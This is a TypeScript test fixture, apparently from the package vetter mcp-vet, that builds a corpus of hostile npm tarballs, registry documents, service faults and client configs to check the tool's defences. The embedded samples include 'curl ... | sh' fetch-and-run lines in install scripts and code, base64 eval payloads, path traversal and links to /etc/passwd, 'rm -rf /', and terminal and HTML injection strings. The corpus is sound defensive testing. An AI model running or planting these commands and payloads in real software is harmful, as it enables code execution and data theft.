import { execFileSync } from "node:child_process";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import type { Fault } from "../support/fixture-server.js";
import { integrityOf, paxFor, pkgEntries, type RawEntry, repeated, tgz, tgzFile } from "./build.js";
import type { HostileWorld, ServiceUrls } from "./world.js";

/**
 * The hostile corpus (issue 14): packages, registry documents, service faults and client
 * configs written the way an attacker writes them, each with what mcp-vet must do about it.
 * Generated here at run time (no large binaries in git); corpus.test.ts runs them.
 *
 * Every case, whatever its class, must also: end within its deadline plus slack, print no
 * stack trace, print none of its secrets nor the GitHub token in any format, escape hostile
 * text, and leave no file outside its cache, output and temp folders.
 */

export type Verdict = "pass" | "warn" | "fail" | "incomplete";

export interface CaseSetup {
  /** Arguments after the command: the target spec, config paths, or the inventory. */
  args: string[];
  /** Faces with this case's faults; default: the shared ones. */
  urls?: ServiceUrls;
  /** Extra CLI flags (spawned runs) and their in-process equivalents are derived from `noDeps`. */
  noDeps?: boolean;
  /** Files the run may write besides cache, output and temp (the config --fix --write rewrites). */
  writes?: string[];
}

export interface CaseContext {
  world: HostileWorld;
  id: string;
  dirs: { home: string; cwd: string; cache: string; tmp: string; out: string };
}

export interface HostileCase {
  id: string;
  /** The reporter's class of the case (the defects and what held). */
  class: string;
  run: "vet" | "config" | "fix" | "fix-write" | "audit";
  setup(c: CaseContext): Promise<CaseSetup> | CaseSetup;
  /** Seconds for `--timeout`; the run must end within it plus slack. */
  timeout?: number;
  expect: {
    exit: number[];
    /** Verdicts the case's reports may have (in-process: each report; spawned: the JSON's). */
    verdicts?: Verdict[];
    /** Text that must appear in no output of any format (secrets, canary file contents). */
    secrets?: string[];
    /** Finding ids that must be present in a report. */
    findings?: string[];
    /** Text that must appear in some output (a note, a reason, an error). */
    says?: RegExp[];
    /** Peak RSS for a spawned run, MB (default 1024). */
    rssMb?: number;
  };
  /** Run through the spawned CLI in the default run too (the rest run in-process there). */
  spawn?: boolean;
  /** Too large to run in-process: spawned only. */
  heavy?: boolean;
}

const NOT_PASS: Verdict[] = ["warn", "fail", "incomplete"];
const ANY: Verdict[] = ["pass", "warn", "fail", "incomplete"];
const READ = { exit: [0, 1], verdicts: ANY };
const INCOMPLETE = { exit: [3], verdicts: ["incomplete"] as Verdict[] };

/** A path segment no run may ever ask the fixture server for (corpus.test.ts checks). */
export const NEVER_FETCHED = "never-fetched";

/** Text an attacker puts anywhere it will be shown. */
export const HOSTILE_TEXT =
  "\u001b[2J\u001b]0;pwned\u0007\u009b31m<script>alert(1)</script><img src=x onerror=alert(2)>\u202eevil\u2066\u200b\u0085";

const cases: HostileCase[] = [];
const add = (c: HostileCase) => cases.push(c);

/** A vet of one registry package the case adds. */
function pkgCase(
  id: string,
  cls: string,
  opts: Parameters<HostileWorld["addPackage"]>[1],
  expect: HostileCase["expect"],
  more: Partial<HostileCase> = {},
): void {
  const name = `h-${id}`;
  add({
    id,
    class: cls,
    run: "vet",
    async setup({ world }) {
      await world.addPackage(name, opts);
      return { args: [`${name}@${opts?.version ?? "1.0.0"}`], noDeps: true };
    },
    expect,
    ...more,
  });
}

/** A vet of a registry package whose tarball is `entries`. */
function tarCase(
  id: string,
  entries: RawEntry[],
  expect: HostileCase["expect"],
  more: Partial<HostileCase> = {},
) {
  pkgCase(id, "tarball", { tarball: tgz(entries) }, expect, more);
}

const PKG = (extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name: "x", version: "1.0.0", license: "MIT", ...extra });

// ---- tarballs: bombs, traversal, links, caps (held, and must keep holding) ----------------

{
  const zeros = (size: number) => repeated("\0", size);
  add({
    id: "tarball-gzip-bomb",
    class: "tarball",
    run: "vet",
    async setup({ world, dirs }) {
      const data = await tgzFile(
        [
          { path: "package/package.json", body: PKG() },
          { path: "package/bomb.bin", body: zeros(300 << 20) },
        ],
        join(dirs.tmp, "..", "bomb.tgz"),
      );
      await world.addPackage("h-tarball-gzip-bomb", { tarball: data });
      return { args: ["h-tarball-gzip-bomb@1.0.0"], noDeps: true };
    },
    expect: { ...INCOMPLETE, says: [/unpacks to more than/] },
    spawn: true,
  });
  add({
    id: "tarball-gzip-bomb-in-code",
    class: "tarball",
    run: "vet",
    async setup({ world, dirs }) {
      const data = await tgzFile(
        [
          { path: "package/package.json", body: PKG() },
          { path: "package/index.js", body: repeated(";", 300 << 20) },
        ],
        join(dirs.tmp, "..", "bomb.tgz"),
      );
      await world.addPackage("h-tarball-gzip-bomb-in-code", { tarball: data });
      return { args: ["h-tarball-gzip-bomb-in-code@1.0.0"], noDeps: true };
    },
    expect: { ...INCOMPLETE, says: [/unpacks to more than/] },
  });
  pkgCase(
    "tarball-not-gzip",
    "tarball",
    { tarball: Buffer.from("this is not a tarball") },
    {
      ...INCOMPLETE,
      says: [/not a gzip archive/],
    },
  );
  pkgCase(
    "tarball-gzip-not-tar",
    "tarball",
    { tarball: tgzRawGzip("just text, no tar headers at all\n".repeat(100)) },
    INCOMPLETE,
  );
  pkgCase(
    "tarball-truncated-gzip",
    "tarball",
    { tarball: tgz(pkgEntries({ "package.json": PKG(), "a.js": "x".repeat(5000) })).subarray(0, 60) },
    INCOMPLETE,
  );
  pkgCase("tarball-empty", "tarball", { tarball: tgz([]) }, INCOMPLETE);
  pkgCase("tarball-zero-bytes", "tarball", { tarball: Buffer.alloc(0) }, INCOMPLETE);
  tarCase(
    "tarball-path-traversal",
    [
      { path: "package/package.json", body: PKG() },
      { path: "package/../../../../tmp/mcp-vet-escape-1", body: "pwned" },
      { path: "../../mcp-vet-escape-2", body: "pwned" },
      { path: "package\\..\\..\\mcp-vet-escape-3", body: "pwned" },
    ],
    READ,
  );
  tarCase(
    "tarball-absolute-paths",
    [
      { path: "package/package.json", body: PKG() },
      { path: "/tmp/mcp-vet-escape-abs", body: "pwned" },
      { path: "C:\\Windows\\mcp-vet-escape", body: "pwned" },
    ],
    READ,
  );
  tarCase(
    "tarball-links",
    [
      { path: "package/package.json", body: PKG() },
      { path: "package/passwd", type: "2", linkpath: "/etc/passwd" },
      { path: "package/hard", type: "1", linkpath: "/etc/passwd" },
      { path: "package/up", type: "2", linkpath: "../../../../" },
      { path: "package/dev", type: "3" },
    ],
    { ...READ, secrets: ["root:x:0:0"] },
  );
  tarCase(
    "tarball-pax-path-override",
    [
      { path: "package/package.json", body: PKG() },
      paxFor({ path: "../../../tmp/mcp-vet-escape-pax" }),
      { path: "package/innocent.js", body: "pwned" },
      paxFor({ linkpath: "/etc/shadow" }),
      { path: "package/l", type: "2", linkpath: "x" },
    ],
    READ,
  );
  add({
    id: "tarball-200k-links",
    class: "tarball",
    run: "vet",
    async setup({ world, dirs }) {
      function* entries(): Generator<RawEntry> {
        yield { path: "package/package.json", body: PKG() };
        for (let i = 0; i < 200_000; i++) yield { path: `package/l${i}`, type: "2", linkpath: "/etc/passwd" };
      }
      const data = await tgzFile(entries(), join(dirs.tmp, "..", "links.tgz"));
      await world.addPackage("h-tarball-200k-links", { tarball: data });
      return { args: ["h-tarball-200k-links@1.0.0"], noDeps: true };
    },
    // 200k entries pass the entry cap: the listing is partial, so never a pass.
    expect: { exit: [0, 1], verdicts: NOT_PASS, findings: ["unread-code"] },
    spawn: true,
  });
  add({
    id: "tarball-25k-entries",
    class: "tarball",
    run: "vet",
    async setup({ world, dirs }) {
      function* entries(): Generator<RawEntry> {
        yield { path: "package/package.json", body: PKG() };
        for (let i = 0; i < 25_000; i++) yield { path: `package/f/${i}.txt`, body: "x" };
        yield { path: "package/zz-last.js", body: "require('child_process').exec('curl evil | sh')" };
      }
      const data = await tgzFile(entries(), join(dirs.tmp, "..", "many.tgz"));
      await world.addPackage("h-tarball-25k-entries", { tarball: data });
      return { args: ["h-tarball-25k-entries@1.0.0"], noDeps: true };
    },
    expect: { exit: [0, 1], verdicts: NOT_PASS, findings: ["unread-code"] },
  });
  tarCase(
    "tarball-duplicate-entry-last-wins",
    [
      { path: "package/package.json", body: PKG() },
      { path: "package/index.js", body: "console.log('benign')" },
      { path: "package/index.js", body: "require('child_process').execSync('curl http://1.2.3.4/x | sh')" },
    ],
    { ...READ, says: [/process\.exec/] },
  );
  tarCase(
    "tarball-no-top-folder",
    [
      { path: "package.json", body: PKG() },
      { path: "index.js", body: "x" },
    ],
    { exit: [0, 1, 3], verdicts: ANY },
  );
  tarCase(
    "tarball-hostile-file-names",
    [
      { path: "package/package.json", body: PKG() },
      { path: `package/${HOSTILE_TEXT.replace(/\//g, "")}.js`, body: "require('child_process').exec('x')" },
      { path: "package/line\nbreak.js", body: "eval('1')" },
    ],
    READ,
  );
  add({
    id: "tarball-60mb-minified",
    class: "tarball",
    run: "vet",
    async setup({ world, dirs }) {
      const data = await tgzFile(
        [
          { path: "package/package.json", body: PKG() },
          { path: "package/dist/bundle.min.js", body: repeated("a=b+c;", 60 << 20) },
        ],
        join(dirs.tmp, "..", "min.tgz"),
      );
      await world.addPackage("h-tarball-60mb-minified", { tarball: data });
      return { args: ["h-tarball-60mb-minified@1.0.0"], noDeps: true };
    },
    expect: { exit: [0, 1], verdicts: NOT_PASS, findings: ["unread-code"], says: [/per-file cap/] },
    spawn: true,
  });
  add({
    id: "tarball-7x30mb-js",
    class: "memory",
    run: "vet",
    async setup({ world, dirs }) {
      const files: RawEntry[] = [{ path: "package/package.json", body: PKG() }];
      for (let i = 0; i < 7; i++)
        files.push({
          path: `package/f${i}.js`,
          body: repeated("require('child_process').exec(a+b);\n", 30_000_000),
        });
      const data = await tgzFile(files, join(dirs.tmp, "..", "big7.tgz"));
      await world.addPackage("h-tarball-7x30mb-js", { tarball: data });
      return { args: ["h-tarball-7x30mb-js@1.0.0"], noDeps: true };
    },
    timeout: 120,
    expect: { exit: [0, 1], verdicts: NOT_PASS, findings: ["unread-code"], rssMb: 1024 },
    heavy: true,
  });
  add({
    id: "tarball-30mb-dense-array",
    class: "memory",
    run: "vet",
    async setup({ world, dirs }) {
      const body = repeated("[1,{a:[2]}],", 30_000_000);
      const data = await tgzFile(
        [
          { path: "package/package.json", body: PKG() },
          { path: "package/data.js", body },
        ],
        join(dirs.tmp, "..", "dense.tgz"),
      );
      await world.addPackage("h-tarball-30mb-dense-array", { tarball: data });
      return { args: ["h-tarball-30mb-dense-array@1.0.0"], noDeps: true };
    },
    timeout: 120,
    expect: { exit: [0, 1, 3], verdicts: ANY, rssMb: 1024 },
    heavy: true,
  });
  tarCase(
    "analysis-100k-deep-nesting",
    [
      { path: "package/package.json", body: PKG() },
      { path: "package/deep.js", body: `x=${"[".repeat(100_000)}${"]".repeat(100_000)}` },
    ],
    READ,
  );
  tarCase(
    "analysis-100k-deep-parens",
    [
      { path: "package/package.json", body: PKG() },
      { path: "package/deep.js", body: `x=${"(".repeat(100_000)}1${")".repeat(100_000)}` },
    ],
    READ,
  );
  tarCase(
    "analysis-1mb-newlines-syntax-error",
    [
      { path: "package/package.json", body: PKG() },
      { path: "package/x.js", body: `${"\n".repeat(1 << 20)}}}}` },
    ],
    READ,
  );
  tarCase(
    "analysis-1mb-spaces-import-syntax-error",
    [
      { path: "package/package.json", body: PKG() },
      { path: "package/x.js", body: `${" \t".repeat(1 << 19)}import ${"\n".repeat(1 << 18)}}` },
    ],
    READ,
  );
  tarCase(
    "analysis-unterminated-comment",
    [
      { path: "package/package.json", body: PKG() },
      { path: "package/x.js", body: `/*${"require('x');".repeat(200_000)}` },
    ],
    READ,
  );
  tarCase(
    "analysis-unterminated-template",
    [
      { path: "package/package.json", body: PKG() },
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a template literal left open is the case.
      { path: "package/x.js", body: `\`${"${a}".repeat(200_000)}` },
    ],
    READ,
  );
  tarCase(
    "analysis-backslash-run",
    [
      { path: "package/package.json", body: PKG() },
      { path: "package/x.js", body: `"${"\\".repeat(1 << 20)}` },
    ],
    READ,
  );
  tarCase(
    "analysis-fromcharcode-200k-args",
    [
      { path: "package/package.json", body: PKG() },
      {
        path: "package/x.js",
        body: `String.fromCharCode(${Array.from({ length: 200_000 }, () => "104").join(",")})`,
      },
    ],
    READ,
  );
  tarCase(
    "analysis-10k-tools",
    [
      { path: "package/package.json", body: PKG() },
      {
        path: "package/x.js",
        body: Array.from(
          { length: 10_000 },
          (_, i) =>
            `server.tool("t${i}", ${JSON.stringify(HOSTILE_TEXT)}, {}, async () => require("child_process").exec("x"));`,
        ).join("\n"),
      },
    ],
    READ,
  );
  tarCase(
    "analysis-huge-base64",
    [
      { path: "package/package.json", body: PKG() },
      {
        path: "package/x.js",
        body: `eval(Buffer.from("${Buffer.from("require('child_process').exec('id');".repeat(100_000)).toString("base64")}","base64").toString())`,
      },
    ],
    READ,
  );
  tarCase(
    "analysis-long-identifier",
    [
      { path: "package/package.json", body: PKG() },
      { path: "package/x.js", body: `var ${"a".repeat(1 << 20)}=1;` },
    ],
    READ,
  );
  tarCase(
    "analysis-many-requires-one-line",
    [
      { path: "package/package.json", body: PKG() },
      { path: "package/x.js", body: "require(".repeat(300_000) },
    ],
    READ,
  );
  tarCase(
    "analysis-typescript-namespace-bomb",
    [
      { path: "package/package.json", body: PKG() },
      { path: "package/x.ts", body: "namespace A { export const x = 1 }\n".repeat(50_000) },
    ],
    READ,
  );
  tarCase(
    "analysis-shebang-script-extensionless",
    [
      { path: "package/package.json", body: PKG({ bin: { x: "cli" } }) },
      {
        path: "package/cli",
        body: "#!/usr/bin/env node\nrequire('child_process').execSync('curl http://1.2.3.4/|sh')",
      },
    ],
    { ...READ, says: [/process\.exec/] },
  );
  tarCase(
    "analysis-binary-garbage-js",
    [
      { path: "package/package.json", body: PKG() },
      { path: "package/x.js", body: noiseBuffer(1 << 20) },
    ],
    READ,
  );
}

// ---- package.json: install scripts npm still runs (defect 3) --------------------------------

{
  const scriptsCase = (
    id: string,
    manifestExtra: Record<string, unknown>,
    extraFiles: Record<string, string | Buffer> = {},
  ) =>
    tarCase(
      id,
      pkgEntries({
        "package.json": typeof manifestExtra.raw === "string" ? manifestExtra.raw : PKG(manifestExtra),
        ...extraFiles,
      }),
      { exit: [0, 1], verdicts: NOT_PASS, findings: ["install-scripts"] },
    );
  scriptsCase("scripts-bad-sibling-number", { scripts: { test: 1, postinstall: "node x.js" } });
  scriptsCase("scripts-long-sibling", { scripts: { build: "x".repeat(20_000), postinstall: "node x.js" } });
  scriptsCase("scripts-long-postinstall", { scripts: { postinstall: `node -e "${"1;".repeat(10_000)}"` } });
  scriptsCase("scripts-1001-before-postinstall", {
    scripts: {
      ...Object.fromEntries(Array.from({ length: 1001 }, (_, i) => [`s${i}`, "x"])),
      postinstall: "node x.js",
    },
  });
  scriptsCase("scripts-object-sibling", { scripts: { lint: { cmd: "x" }, preinstall: "curl evil | sh" } });
  scriptsCase("scripts-proto-key", {
    raw: `{"name":"x","version":"1.0.0","scripts":{"__proto__":{"x":1},"install":"node i.js"}}`,
  });
  scriptsCase("package-json-bom", { raw: `\uFEFF${PKG({ scripts: { postinstall: "node x.js" } })}` });
  scriptsCase("package-json-2mb-description", {
    description: "d".repeat(2 << 20),
    scripts: { postinstall: "node x.js" },
  });
  tarCase(
    "package-json-10mb",
    pkgEntries({
      "package.json": PKG({ description: "d".repeat(10 << 20), scripts: { postinstall: "node x.js" } }),
    }),
    { exit: [0, 1, 3], verdicts: NOT_PASS, findings: ["unread-code"] },
  );
  tarCase("package-json-not-object", pkgEntries({ "package.json": "[1,2,3]", "index.js": "x" }), {
    exit: [0, 1, 3],
    verdicts: ANY,
  });
  tarCase("package-json-missing", pkgEntries({ "index.js": "x" }), { exit: [0, 1, 3], verdicts: ANY });
  tarCase(
    "package-json-wrong-types",
    pkgEntries({
      "package.json": JSON.stringify({
        name: 42,
        version: [],
        bin: 42,
        scripts: "rm -rf /",
        dependencies: "x",
        license: { nope: 1 },
      }),
    }),
    { exit: [0, 1, 3], verdicts: ANY },
  );
  tarCase(
    "package-json-hostile-text",
    pkgEntries({
      "package.json": PKG({
        description: HOSTILE_TEXT,
        keywords: [HOSTILE_TEXT],
        homepage: `javascript:${HOSTILE_TEXT}`,
      }),
      "README.md": `# ${HOSTILE_TEXT}\n${HOSTILE_TEXT.repeat(100)}`,
      "index.js": `server.tool("x${HOSTILE_TEXT}", ${JSON.stringify(HOSTILE_TEXT)}, {}, async () => 1)`,
    }),
    READ,
  );
  tarCase(
    "package-json-deep-nesting",
    pkgEntries({
      "package.json": `{"name":"x","version":"1.0.0","x":${"[".repeat(100_000)}${"]".repeat(100_000)},"scripts":{"postinstall":"node x"}}`,
    }),
    { exit: [0, 1, 3], verdicts: ANY },
  );
}

// ---- the registry: packuments and tarball urls (defect 4, and what held) --------------------

{
  const canaryFile = (dirs: CaseContext["dirs"]) => {
    const file = join(dirs.home, "canary-secret.tgz");
    writeFileSync(file, tgz(pkgEntries({ "package.json": PKG({ description: "CANARY-LOCAL-FILE-READ" }) })));
    return file;
  };
  add({
    id: "dist-tarball-file-url",
    class: "registry",
    run: "vet",
    async setup({ world, dirs }) {
      await world.addPackage("h-dist-file", {
        dist: { tarball: `file:${canaryFile(dirs)}` },
        integrity: null,
      });
      return { args: ["h-dist-file@1.0.0"], noDeps: true };
    },
    expect: { ...INCOMPLETE, findings: ["tarball-url-unsafe"], secrets: ["CANARY-LOCAL-FILE-READ"] },
    spawn: true,
  });
  for (const [id, url] of [
    ["dist-tarball-git-http", "git+http://127.0.0.1:9/x.git"],
    ["dist-tarball-git-ssh", "git+ssh://git@127.0.0.1:9/x.git"],
    ["dist-tarball-github-shorthand", "github:attacker/payload"],
    ["dist-tarball-http-other-host", "http://127.0.0.2:9/x.tgz"],
    ["dist-tarball-ftp", "ftp://127.0.0.1/x.tgz"],
    ["dist-tarball-data-url", `data:application/gzip;base64,${tgz([]).toString("base64")}`],
    ["dist-tarball-relative", "../../../etc/passwd"],
    ["dist-tarball-absolute-path", "/etc/passwd"],
    ["dist-tarball-empty", ""],
  ] as const) {
    pkgCase(
      id,
      "registry",
      { dist: { tarball: url }, integrity: null },
      { ...INCOMPLETE, secrets: ["root:x:0:0"] },
    );
  }
  // Defect 4: dependency specs that are git, url or local paths become a finding, never a fetch.
  add({
    id: "dependency-specs-not-fetched",
    class: "registry",
    run: "vet",
    async setup({ world, dirs }) {
      const folder = join(dirs.home, "canary-dep");
      mkdirSync(folder, { recursive: true });
      writeFileSync(
        join(folder, "package.json"),
        JSON.stringify({ name: "canary-dep", version: "1.0.0", description: "CANARY-LOCAL-DEP-READ" }),
      );
      const elsewhere = `${world.server.url()}/${NEVER_FETCHED}`;
      await world.addPackage("h-dep-specs", {
        manifest: {
          dependencies: {
            "plain-mcp": "1.0.0",
            "via-git": `git+${elsewhere}/x.git`,
            "via-url": `${elsewhere}/x.tgz`,
            "via-file": `file:${folder}`,
            "via-github": "github:attacker/payload",
          },
        },
      });
      return { args: ["h-dep-specs@1.0.0"], noDeps: false };
    },
    expect: {
      exit: [0, 1],
      verdicts: NOT_PASS,
      findings: ["dependency-non-registry-source"],
      secrets: ["CANARY-LOCAL-DEP-READ"],
    },
  });
  add({
    id: "dist-tarball-previous-version-file-url",
    class: "registry",
    run: "vet",
    async setup({ world, dirs }) {
      await world.addPackage("h-prev-file", { previous: { dist: { tarball: `file:${canaryFile(dirs)}` } } });
      return { args: ["h-prev-file@1.0.0"], noDeps: true };
    },
    expect: { ...READ, secrets: ["CANARY-LOCAL-FILE-READ"] },
  });
  pkgCase(
    "dist-integrity-mismatch",
    "registry",
    { integrity: integrityOf(Buffer.from("other")) },
    { ...INCOMPLETE, says: [/integrity/] },
  );
  pkgCase(
    "packument-hostile-text",
    "registry",
    {
      manifest: {
        description: HOSTILE_TEXT,
        deprecated: HOSTILE_TEXT,
        maintainers: [{ name: HOSTILE_TEXT, email: HOSTILE_TEXT }],
        _npmUser: { name: HOSTILE_TEXT },
      },
      packument: { maintainers: [{ name: HOSTILE_TEXT }] },
    },
    READ,
  );
  pkgCase(
    "packument-wrong-types",
    "registry",
    { packument: { "dist-tags": "latest", time: 42, maintainers: "x" } },
    { exit: [0, 1, 2, 3], verdicts: ANY },
  );
  add({
    id: "packument-200k-versions",
    class: "registry",
    run: "vet",
    async setup({ world }) {
      const versions: Record<string, unknown> = {};
      const time: Record<string, string> = {};
      for (let i = 0; i < 200_000; i++) {
        versions[`0.0.${i}`] = {
          name: "h-200k",
          version: `0.0.${i}`,
          dist: { tarball: "https://127.0.0.1:9/x.tgz" },
        };
        time[`0.0.${i}`] = "2026-01-01T00:00:00.000Z";
      }
      await world.addPackage("h-200k", { packument: { versions: { ...versions }, time } });
      return { args: ["h-200k@0.0.5"], noDeps: true };
    },
    timeout: 60,
    expect: { exit: [0, 1, 3], verdicts: ANY },
    heavy: true,
  });
  const registryFaults: [string, Fault, number[]][] = [
    ["500", { kind: "status", status: 500, body: "SECRET-SERVER-TEXT-500" }, [3]],
    ["reset", { kind: "reset" }, [3]],
    ["truncate", { kind: "truncate", bytes: 50 }, [3]],
    ["garbage", { kind: "garbage", bytes: 4096 }, [3]],
    ["html", { kind: "body", body: `<html>${HOSTILE_TEXT}</html>` }, [3]],
    ["429", { kind: "rate-limit", retryAfterSeconds: 3600 }, [3]],
    ["hang", { kind: "hang" }, [3]],
    ["drip", { kind: "drip", everyMs: 200 }, [3]],
    ["flood", { kind: "flood", bytes: 80 << 20 }, [3]],
    ["json-null", { kind: "body", body: "null" }, [3]],
    ["json-array", { kind: "body", body: "[]" }, [3]],
  ];
  for (const [name, fault, exit] of registryFaults) {
    add({
      id: `registry-${name}`,
      class: "faults",
      run: "vet",
      setup({ world, id }) {
        return { args: ["plain-mcp@1.0.0"], noDeps: true, urls: world.isolated(id, { registry: fault }) };
      },
      timeout: 3,
      expect: { exit, verdicts: ["incomplete"], secrets: ["SECRET-SERVER-TEXT-500"] },
      spawn: name === "hang" || name === "drip",
    });
  }
  const tarballFaults: [string, Fault][] = [
    ["500", { kind: "status", status: 500 }],
    ["reset", { kind: "reset" }],
    ["truncate", { kind: "truncate", bytes: 40 }],
    ["garbage", { kind: "garbage", bytes: 100_000 }],
    ["hang", { kind: "hang" }],
    ["drip", { kind: "drip", everyMs: 100 }],
    ["flood", { kind: "flood", bytes: 70 << 20 }],
  ];
  for (const [name, fault] of tarballFaults) {
    add({
      id: `tarball-fault-${name}`,
      class: "faults",
      run: "vet",
      async setup({ world, id }) {
        const pkg = `h-tf-${name}`;
        await world.addPackage(pkg, {});
        world.server.fault({ match: new RegExp(`/${pkg}-1\\.0\\.0\\.tgz$`), fault });
        return {
          args: [`${pkg}@1.0.0`],
          noDeps: true,
          urls: { ...world.urls, registry: world.isolated(id, {}).registry },
        };
      },
      timeout: 3,
      expect: INCOMPLETE,
    });
  }
}

// ---- GitHub, OSV and the MCP registry failing (held; a 500's body must not be quoted) -------

{
  const serviceFaults: [string, Fault][] = [
    ["500-with-body", { kind: "status", status: 500, body: `SECRET-SERVER-TEXT ${HOSTILE_TEXT}` }],
    ["502", { kind: "status", status: 502 }],
    ["reset", { kind: "reset" }],
    ["truncate", { kind: "truncate", bytes: 10 }],
    ["garbage", { kind: "garbage", bytes: 2048 }],
    ["429-retry-after", { kind: "rate-limit", retryAfterSeconds: 7200 }],
    ["hang", { kind: "hang" }],
    ["drip", { kind: "drip", everyMs: 250 }],
    ["flood", { kind: "flood", bytes: 40 << 20 }],
    ["wrong-shape", { kind: "body", body: JSON.stringify({ servers: "x", results: 1, full_name: 5 }) }],
  ];
  for (const service of ["github", "osv", "mcpRegistry"] as const) {
    for (const [name, fault] of serviceFaults) {
      add({
        id: `${service}-${name}`,
        class: "faults",
        run: "vet",
        async setup({ world, id }) {
          const pkg = `h-svc-${service.toLowerCase()}-${name}`;
          await world.addPackage(pkg, { manifest: { repository: `github:acme/${pkg}` } });
          world.addRepo("acme", pkg, pkg);
          return { args: [`${pkg}@1.0.0`], noDeps: true, urls: world.isolated(id, { [service]: fault }) };
        },
        timeout: 3,
        // OSV is required: its failure is incomplete. The others lower the score, and a cut one is incomplete too.
        expect: {
          exit: service === "osv" ? [3] : [0, 1, 3],
          verdicts: service === "osv" ? ["incomplete"] : ANY,
          secrets: ["SECRET-SERVER-TEXT"],
        },
        spawn: name === "hang" && service === "github",
      });
    }
  }
  add({
    id: "github-redirect-other-host",
    class: "token",
    run: "vet",
    async setup({ world, id }) {
      const pkg = "h-gh-redirect";
      await world.addPackage(pkg, { manifest: { repository: `github:acme/${pkg}` } });
      const urls = world.isolated(id, {
        github: { kind: "status", status: 301, headers: { location: "http://127.0.0.2:9/steal" } },
      });
      return { args: [`${pkg}@1.0.0`], noDeps: true, urls };
    },
    timeout: 8,
    expect: { exit: [0, 1, 3], verdicts: ANY },
  });
}

// ---- deadlines (defect 9) ------------------------------------------------------------------

add({
  id: "deadline-everything-hangs",
  class: "deadline",
  run: "vet",
  setup({ world, id }) {
    const hang: Fault = { kind: "hang" };
    return {
      args: ["plain-mcp@1.0.0"],
      urls: world.isolated(id, { registry: hang, github: hang, osv: hang, mcpRegistry: hang }),
    };
  },
  timeout: 3,
  expect: { ...INCOMPLETE, says: [/cut at the 3 s deadline/] },
  spawn: true,
});
add({
  id: "deadline-secondary-sources-hang",
  class: "deadline",
  run: "vet",
  async setup({ world, id }) {
    await world.addPackage("h-deadline-secondary", {
      manifest: { repository: "github:acme/h-deadline-secondary" },
    });
    world.addRepo("acme", "h-deadline-secondary", "h-deadline-secondary");
    const hang: Fault = { kind: "hang" };
    return {
      args: ["h-deadline-secondary@1.0.0"],
      noDeps: true,
      urls: world.isolated(id, { github: hang, mcpRegistry: hang }),
    };
  },
  timeout: 3,
  // GitHub and the MCP registry are not required, but a source cut by the deadline is never a pass.
  expect: { ...INCOMPLETE, says: [/cut at the deadline: github, mcp-registry/] },
});
add({
  id: "deadline-during-analysis",
  class: "deadline",
  run: "vet",
  async setup({ world, dirs }) {
    // Runtime code the analysis must parse whole (entry-reached files under the skim's 2 MB),
    // ~76 MB of it: seconds of work on any machine, many times the 4 s deadline, so the cut
    // does not depend on how fast the machine parses.
    const n = 40;
    const index = Array.from({ length: n }, (_, i) => `require("./f${i}.js");`).join("\n");
    const files: RawEntry[] = [
      { path: "package/package.json", body: PKG({ main: "index.js" }) },
      { path: "package/index.js", body: index },
    ];
    for (let i = 0; i < n; i++)
      files.push({ path: `package/f${i}.js`, body: repeated("require('x').y(a,b);\n", 1_900_000) });
    const data = await tgzFile(files, join(dirs.tmp, "..", "slow.tgz"));
    await world.addPackage("h-deadline-analysis", { tarball: data });
    return { args: ["h-deadline-analysis@1.0.0"], noDeps: true };
  },
  timeout: 4,
  expect: { ...INCOMPLETE, says: [/cut at the 4 s deadline/] },
  heavy: true,
});
add({
  id: "deadline-audit-one-target-hangs",
  class: "deadline",
  run: "audit",
  async setup({ world, dirs }) {
    await world.addPackage("h-audit-hang", {});
    world.server.fault({ match: /\/h-audit-hang-1\.0\.0\.tgz$/, fault: { kind: "hang" } });
    const inv = join(dirs.cwd, "inventory.yml");
    writeFileSync(inv, 'packages:\n  - "h-audit-hang@1.0.0"\n  - "plain-mcp@1.0.0"\n');
    return { args: [inv], noDeps: true };
  },
  timeout: 4,
  expect: { exit: [3], verdicts: ANY, says: [/cut at the 4 s deadline/] },
  spawn: true,
});

// ---- client configs (defect 2, 5, 8) ----------------------------------------------------------

/** A config case: `servers` written into a file of `client`'s shape. */
function configCase(
  id: string,
  cls: string,
  text: string | ((c: CaseContext) => string),
  expect: HostileCase["expect"],
  more: Partial<HostileCase> & { file?: string } = {},
): void {
  add({
    id,
    class: cls,
    run: "config",
    setup(c) {
      const file = join(c.dirs.cwd, more.file ?? ".cursor/mcp.json");
      mkdirSync(join(file, ".."), { recursive: true });
      writeFileSync(file, typeof text === "function" ? text(c) : text);
      return { args: [file], noDeps: true };
    },
    timeout: 15,
    expect,
    ...more,
  });
}
const servers = (s: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
  JSON.stringify({ ...extra, mcpServers: s }, null, 2);
const EVIL_NPX = { command: "npx", args: ["-y", "evil-mcp@1.0.0"] };
const FAILS = { exit: [1], verdicts: ANY, findings: ["malicious-package"] };

{
  let deep: unknown = 0;
  for (let i = 0; i < 70; i++) deep = [deep];
  configCase("config-70-deep-unrelated-array", "config", servers({ evil: EVIL_NPX }, { other: deep }), FAILS);
  configCase(
    "config-100k-deep-array",
    "config",
    `{"other": ${"[".repeat(100_000)}${"]".repeat(100_000)}, "mcpServers": ${JSON.stringify({ evil: EVIL_NPX })}}`,
    { exit: [1, 3], verdicts: ANY },
  );
  configCase("config-5mb-padding", "config", `${" ".repeat(5 << 20)}${servers({ evil: EVIL_NPX })}`, FAILS);
  configCase(
    "config-5mb-comment-padding",
    "config",
    `// ${"x".repeat(5 << 20)}\n${servers({ evil: EVIL_NPX })}`,
    FAILS,
    { file: ".vscode/mcp.json" },
  );
  configCase("config-20mb-padding", "config", `${" ".repeat(20 << 20)}${servers({ evil: EVIL_NPX })}`, {
    exit: [3],
    verdicts: ANY,
    says: [/larger than/],
  });
  configCase(
    "config-2m-values",
    "config",
    `{"x": [${"0,".repeat(2_000_000)}0], "mcpServers": ${JSON.stringify({ evil: EVIL_NPX })}}`,
    {
      exit: [3],
      verdicts: ANY,
    },
  );
  configCase(
    "config-600-servers",
    "config",
    servers(
      Object.fromEntries(
        Array.from({ length: 600 }, (_, i) => [`r${i}`, { url: `https://r${i}.example.com/mcp` }]),
      ),
    ),
    { exit: [1, 3], verdicts: ANY, says: [/more than 500 servers/] },
  );
  configCase(
    "config-600-args",
    "config",
    servers({ s: { command: "npx", args: [...Array(600).fill("--x"), "-y", "evil-mcp"] } }),
    {
      exit: [1, 3],
      verdicts: ANY,
    },
  );
  configCase(
    "config-duplicate-key-last-wins",
    "config",
